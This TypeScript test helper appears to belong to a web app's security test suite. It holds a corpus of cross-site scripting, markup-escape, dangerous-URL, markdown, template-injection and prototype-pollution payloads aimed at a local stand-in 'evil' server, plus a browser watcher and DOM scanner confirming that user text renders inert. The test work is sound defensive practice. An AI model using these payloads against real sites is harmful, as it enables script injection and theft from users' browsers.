// Owns: the corpus of texts that try to be more than text, and what a page must look like that they did nothing to.
// Never knows a screen.
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { expect } from 'vitest';

/** A server of somebody else, whom no page of ours may ever ask for anything: remembers who did. */
export class Stranger {
  /** What was asked for: method and path. */
  readonly asked: string[] = [];
  readonly #server: HttpServer;

  private constructor() {
    this.#server = createServer((request, answer) => {
      this.asked.push(`${request.method} ${request.url}`);
      answer.setHeader('Content-Type', 'text/html').end('<!doctype html><title>A stranger</title>');
    });
  }

  static async start(): Promise<Stranger> {
    const stranger = new Stranger();
    await new Promise<void>((ready) => stranger.#server.listen(0, '127.0.0.1', ready));
    return stranger;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  get url(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((done) => this.#server.close(done));
  }
}

/** Texts that would run `pwned()`, or ask `evil` for something, where a page took them for more than text. One line each, but for the fenced ones. */
export function tricks(evil: string): string[] {
  return [...elements(evil), ...escapes(evil), ...addresses(evil), ...markdown(evil), ...words];
}

/** Elements and attributes that run scripts or load something by themselves. */
const elements = (evil: string) => [
  '<script>pwned()</script>',
  `<script src="${evil}/script.js"></script>`,
  '<img src=x onerror=pwned()>',
  `<img src="${evil}/pixel.png" srcset="${evil}/pixel2.png 2x">`,
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  `<svg><use href="${evil}/use.svg#x"/></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  `<embed src="${evil}/embed">`,
  `<style>@import url(${evil}/style.css); body { display: none }</style>`,
  `<link rel="stylesheet" href="${evil}/link.css"><link rel="prefetch" href="${evil}/prefetch">`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  `<form action="${evil}/form"><button formaction="javascript:pwned()">x</button></form>`,
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  `<video poster="${evil}/poster"><source onerror=pwned()></video>`,
  '<audio src=x onerror=pwned()></audio>',
  '<marquee onstart=pwned()>x</marquee>',
  '<div style="position:fixed;inset:0;animation:x" onanimationstart=pwned() onclick=pwned()>x</div>',
  '<template><script>pwned()</script></template>',
  '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">x</maction></math>',
  '<a href="javascript:pwned()" autofocus onfocus=pwned() tabindex=0>x</a>',
  '<form id="app"><input name="attributes"><input name="textContent"></form>',
];

/** Ways out of where a text may have been put. */
const escapes = (evil: string) => [
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
  '--><img src=x onerror=pwned()>',
  ']]><img src=x onerror=pwned()>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  `<img src='${evil}/dangling?`,
  '&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=x onerror=pwned()&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e \\x3cimg src=x onerror=pwned()\\x3e',
  '＜script＞pwned()＜/script＞',
  "';pwned();//", // A string of a script.
  '`${pwned()}` ${pwned()}',
  "{{constructor.constructor('pwned()')()}}",
  '{@html "<img src=x onerror=pwned()>"} <%= pwned() %> #{pwned()}',
];

/** Addresses that a link must not lead to, and some that it may. */
const addresses = (evil: string) => [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  '\u0001javascript:pwned()',
  'javascript://x/%0apwned()',
  'data:text/html,<script>opener.pwned()</script>',
  'vbscript:pwned() file:///etc/passwd blob:x',
  `http://x.invalid/"onmouseover="pwned()`,
  `http://x.invalid/'><img/src=x/onerror=pwned()>`,
  'http://x.invalid/<script>pwned()</script>',
  'http://javascript:pwned()@x.invalid/',
  `//${evil.slice('http://'.length)}/relative`,
];

const markdown = (evil: string) => [
  '[x](javascript:pwned())',
  '[x](JAVASCRIPT&colon;pwned())',
  '[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoKTwvc2NyaXB0Pg==)',
  '[x]: javascript:pwned() "x"',
  '<javascript:pwned()>',
  `![x](${evil}/markdown.png)`,
  '![x](x"onerror="pwned())',
  '[<img src=x onerror=pwned()>](http://x.invalid/)',
  '[x](http://x.invalid/ "onmouseover=pwned() x=\\"")',
  '**<script>pwned()</script>** `<script>pwned()</script>`',
  '```html\n<script>pwned()</script>\n```',
  '```"><img src=x onerror=pwned()>\nx\n```',
  '| <img src=x onerror=pwned()> |\n| --- |\n| <svg onload=pwned()> |',
];

/** Texts that mean something to a program rather than to a browser, or that look like others. */
const words = [
  '@Ada"><img src=x onerror=pwned()> #general"><svg onload=pwned()>',
  '@__proto__ #constructor __proto__ {"__proto__":{"pwned":1}}',
  'a\u202e>"()denwp"=rorreno x=crs gmi< b\u2066c',
  'line\u2028separator\u2029paragraph\u0085next \ufeff\u200bzero width',
  '\u001b[2J\u001b]0;pwned\u0007\b\b\b',
];

/** Notes everything about a person's browser that no text may bring about. */
export class Watch {
  /** What happened, in words; stays empty. */
  readonly happened: string[] = [];

  private constructor(
    readonly own: string,
    readonly stranger: Stranger,
  ) {}

  /** `own`: scheme, host and port of the server that the pages of `context` belong to. */
  static async over(context: BrowserContext, own: string, stranger: Stranger): Promise<Watch> {
    const watch = new Watch(own, stranger);
    await context.exposeBinding('pwned', ({ frame }) => void watch.happened.push(`a script ran in ${frame.url()}`));
    context.on('dialog', (dialog) => {
      watch.happened.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    context.on('request', (request) => {
      if (!watch.isOurs(request.url())) watch.happened.push(`a request: ${request.url()}`);
    });
    let pages = 0;
    context.on('page', (page) => {
      if (++pages > 1) watch.happened.push(`a window: ${page.url()}`);
      page.on('websocket', (socket) => {
        if (!socket.url().startsWith(own.replace('http', 'ws'))) watch.happened.push(`a WebSocket: ${socket.url()}`);
      });
      page.on('framenavigated', (frame) => {
        if (frame !== page.mainFrame() || !watch.isOurs(frame.url())) watch.happened.push(`a frame: ${frame.url()}`);
      });
      page.on('download', () => watch.happened.push('a download'));
    });
    return watch;
  }

  isOurs(url: string): boolean {
    // The icon with a count on it is drawn by the page, and is such a URL.
    return url.startsWith(`${this.own}/`) || url === 'about:blank' || url.startsWith('data:image/png;');
  }

  /** Nothing happened, and the page holds nothing but what we made. */
  async expectInert(page: Page, screen: string): Promise<void> {
    expect(await page.evaluate(foreignMatter), screen).toEqual([]);
    expect(this.happened, screen).toEqual([]);
    expect(this.stranger.asked, screen).toEqual([]);
  }
}

/** Runs in the page: elements and attributes that our pages never have, wherever they came from. */
function foreignMatter(): string[] {
  const found: string[] = [];
  const never = 'iframe,frame,object,embed,applet,base,style,img,picture,video,audio,source,track,math,template,marquee,portal,foreignObject,animate,set,use,image';
  for (const element of document.querySelectorAll(never)) found.push(element.outerHTML.slice(0, 200));
  for (const script of document.querySelectorAll('script')) {
    const own = /^\/(assets\/[\w-]+\.js|early\.js)$/.test(script.getAttribute('src') ?? '') && script.textContent === '';
    if (!own) found.push(script.outerHTML.slice(0, 200));
  }
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'http-equiv' || name === 'formaction' || name === 'action') found.push(`${name}=${value}`);
      if (!/^(href|src|xlink:href|poster|data|srcset)$/.test(name)) continue;
      const { protocol, origin } = new URL(value, location.href);
      const link = element.localName === 'a' && /^https?:$/.test(protocol);
      const drawn = element.matches('link[rel=icon]') && value.startsWith('data:image/png;');
      if (!link && !drawn && origin !== location.origin) found.push(`${element.localName} ${name}=${value}`);
      if (link && origin !== location.origin && element.getAttribute('rel') !== 'noopener noreferrer') found.push(`opener: ${value}`);
    }
    // Texts that people wrote hold nothing but links, mentions, hits and what was not sent.
    if (element.closest('[dir=auto]') && !element.matches('[dir=auto], a, span, mark, [dir=auto] svg, [dir=auto] svg *')) found.push(`in a text: ${element.outerHTML.slice(0, 200)}`);
  }
  const polluted = Object.keys(Object.prototype);
  if (polluted.length > 0 || 'pwned' in document || document.querySelectorAll('#app').length !== 1) found.push(`prototypes or names: ${polluted.join()}`);
  return found;
}
